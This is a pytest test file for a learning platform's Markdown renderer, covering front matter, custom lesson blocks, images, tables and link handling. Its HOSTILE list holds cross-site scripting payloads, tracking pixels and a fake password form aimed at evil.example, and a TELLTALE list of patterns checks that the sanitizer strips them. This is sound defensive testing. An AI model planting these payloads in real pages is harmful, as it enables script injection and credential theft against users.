"""Front matter, our Markdown blocks, and what no lesson may carry to a reader."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lms.core.content import FrontMatterError, front_matter, render

IMAGES = {"map.svg": ("/files/9f/map.svg", 320, 200)}


def html(markdown: str) -> str:
    return render(markdown, images=IMAGES)


def test_front_matter_keeps_what_is_written() -> None:
    found, body, line = front_matter('---\nat: 12:30\nrequired: no\nday: 2026-09-01\nlist: [1, "2"]\n---\n\nText\n')
    assert found == {"at": "12:30", "required": "no", "day": "2026-09-01", "list": ["1", "2"]}
    assert (body, line) == ("\nText\n", 7)


@pytest.mark.parametrize(
    ("text", "expected"),
    [("Text", ({}, "Text", 1)), ("---\n---\nText", ({}, "Text", 3)), ("\ufeff---\r\na: b\r\n---\r\nText", ({"a": "b"}, "Text", 4))],
)
def test_front_matter_may_be_missing_empty_or_from_windows(text: str, expected: tuple[dict[str, str], str, int]) -> None:
    assert front_matter(text) == expected


@pytest.mark.parametrize(
    ("text", "line", "message"),
    [
        ("---\na: b\nText", 1, "the front matter has no second --- line"),
        ("---\na: b\nc: [1\nd: 2\n---\n", 4, "YAML: expected ',' or ']', but got ':'"),
        ("---\n- a\n---\n", 2, "the front matter is not a list of keys and values"),
    ],
)
def test_front_matter_says_the_line_of_the_fault(text: str, line: int, message: str) -> None:
    with pytest.raises(FrontMatterError) as refused:
        front_matter(text)
    assert (refused.value.line, refused.value.message) == (line, message)


def test_help_is_marked_with_its_language_and_direction() -> None:
    assert html("/// help | ar\nنستخدم **الماضي** البسيط.\n///") == (
        '<aside class="aid" dir="rtl" lang="ar">\n<p>نستخدم <strong>الماضي</strong> البسيط.</p>\n</aside>'
    )
    assert 'dir="ltr" lang="tr"' in html("/// help | tr\nYardım\n///")


def test_words_become_rows() -> None:
    assert html("/// words\nwork\n:   do a job\n\nrest\n:   stop\n:   sleep\n///") == (
        '<section>\n<dl class="words">\n<div>\n<dt>work</dt>\n<dd>do a job</dd>\n</div>\n'
        "<div>\n<dt>rest</dt>\n<dd>stop</dd>\n<dd>sleep</dd>\n</div>\n</dl>\n</section>"
    )


def test_blocks_nest_with_another_number_of_slashes() -> None:
    found = html("/// try\nWrite.\n\n//// help | ar\nاكتب.\n////\n\nSend.\n///\n\nAfter.")
    assert found.index('<section class="try">') < found.index('<aside class="aid"') < found.index("</aside>")
    assert found.index("</aside>") < found.index("Send.") < found.index("</section>") < found.index("After.")


def test_code_with_slashes_stays_code_and_reads_from_the_left() -> None:
    found = html("/// help | ar\nمثال:\n\n```python\n/// words\nx = 1 < 2\n///\n```\n///")
    assert '<pre dir="ltr" tabindex="0"><code' in found or '<pre tabindex="0" dir="ltr"><code' in found
    assert "/// words\nx = 1 &lt; 2\n///" in found
    assert found.endswith("</aside>")
    assert '<code dir="ltr">print</code>' in html("نكتب `print` هنا")


def test_a_picture_gets_its_address_and_size() -> None:
    found = html("![A map](img/map.svg)")
    for part in ('src="/files/9f/map.svg"', 'alt="A map"', 'width="320"', 'height="200"', 'loading="lazy"'):
        assert part in found


def test_a_table_scrolls_in_its_own_box_by_keyboard_too() -> None:
    found = html("| a | b |\n|---|---|\n| 1 | 2 |\n\n/// try\n\n| c |\n|---|\n| 3 |\n\n///")
    assert found.count('<div class="scroll" tabindex="0">\n<table>') == found.count("<table>") == 2
    assert 'tabindex="1"' not in html('<div class="scroll" tabindex="1">x</div>')


def test_number_columns_need_no_style_attribute() -> None:
    found = html("| a | b |\n|--:|:--|\n| 1 | 2 |")
    assert '<th class="num">a</th>' in found
    assert '<td class="num">1</td>' in found
    assert "<td>2</td>" in found


@pytest.mark.parametrize(
    "link",
    ["https://www.python.org/downloads/?a=1#b", "mailto:help@school.example", "/learn/english-a2/past-simple", "/learn/soap", "#part-2"],
)
def test_good_links_stay(link: str) -> None:
    assert f'href="{link}"' in html(f"[words]({link})")


HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png" alt="x">',
    '<img src="//evil.example/pixel.png">',
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](img/map.svg "a\\" onerror=\\"alert(1)")',
    '<img srcset="https://evil.example/a.png 2x" src="/files/9f/map.svg">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    "[x](//evil.example/)",
    "[x](http://evil.example/)",
    "[x](/sign-out)",
    "[x](/learn/../people)",
    "[x](https://good.example@evil.example/)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x'></object><embed src='x'>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<div onclick=alert(1) onmouseover='alert(1)'>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src='https://evil.example/x'></video><audio src='https://evil.example/x'></audio>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "/// try\n    attrs: {onclick: alert(1), style: 'x'}\n\nx\n///",
    "/// help | ar\n<script>alert(1)</script>\n///",
    "/// words\n<img src=x onerror=alert(1)>\n:   <script>alert(1)</script>\n///",
    '```html" onclick=alert(1)\nx\n```',
    "<p class='frame btn' id='main' data-x='1' lang='en\"><script>'>x</p>",
]
TELLTALE = (
    "<script",
    "onerror=",
    "onclick=",
    "onload=",
    "onmouseover=",
    "ontoggle=",
    "evil.example",
    "javascript:",
    "vbscript:",
    "<svg",
    "<iframe",
)
TELLTALE += (
    "<form",
    "<input",
    "<style",
    "style=",
    "<link",
    "<meta",
    "<base",
    "<object",
    "<embed",
    "<video",
    "<math",
    "data:",
    "srcset",
    'id="',
    "btn",
)
TELLTALE += ("/sign-out", "..", "http://")


@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_hostile_is_left_in_a_tag(payload: str) -> None:
    found = html(f"Before.\n\n{payload}\n\nAfter.")
    tags = "".join("<" + part.partition(">")[0] for part in found.lower().split("<")[1:])
    assert [sign for sign in TELLTALE if sign in tags] == [], found
    assert "Before." in found


@given(st.text(alphabet="<>/\"'`![]() =abimgsrconerrorscript:/\n|#*-"))
def test_no_text_makes_a_script_or_a_handler(text: str) -> None:
    found = html(text).lower()
    assert "<script" not in found
    assert " onerror=" not in "".join(part.partition(">")[0] for part in found.split("<")[1:])
